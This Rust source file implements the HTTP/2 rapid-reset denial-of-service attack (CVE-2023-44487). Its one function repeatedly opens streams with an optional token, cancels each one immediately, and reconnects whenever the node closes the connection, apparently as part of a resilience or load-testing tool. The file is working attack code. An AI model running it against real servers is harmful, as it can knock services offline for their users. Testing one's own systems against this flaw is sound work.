//! The `rapid-reset` attack (CVE-2023-44487).

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use super::wire::{connect, head};

/// Opens streams (with `token`, if given) and cancels them at once, reconnecting when the
/// node closes the connection, until `stop`. Counts the streams and the connections.
pub(super) async fn rapid_reset(
    endpoint: String,
    token: Option<String>,
    stop: Arc<AtomicBool>,
    (streams, connections): (Arc<AtomicU64>, Arc<AtomicU64>),
) {
    while !stop.load(Ordering::Relaxed) {
        let Ok(mut client) = connect(&endpoint).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        connections.fetch_add(1, Ordering::Relaxed);
        while !stop.load(Ordering::Relaxed) {
            let Ok(ready) = client.ready().await else {
                break;
            };
            client = ready;
            let Ok(request) = head(&endpoint, "Acquire", token.as_deref()) else {
                return;
            };
            match client.send_request(request, false) {
                Ok((_response, mut body)) => {
                    body.send_reset(h2::Reason::CANCEL);
                    streams.fetch_add(1, Ordering::Relaxed);
                }
                Err(_) => break,
            }
            // Let the connection's driver write what was queued.
            tokio::task::yield_now().await;
        }
    }
}
